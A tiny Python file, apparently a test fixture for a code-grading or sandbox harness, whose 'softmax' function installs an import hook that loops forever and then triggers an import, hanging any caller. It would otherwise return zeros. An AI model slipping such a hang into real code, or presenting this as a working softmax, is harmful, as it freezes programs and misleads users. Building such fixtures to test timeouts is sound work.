"""Installs an import hook that never answers."""
import sys

import numpy as np


class Hook:
    def find_spec(self, *args):
        while True:
            pass


def softmax(x, axis=-1):
    sys.meta_path.insert(0, Hook())
    import colorsys  # noqa: F401
    return np.zeros_like(x)
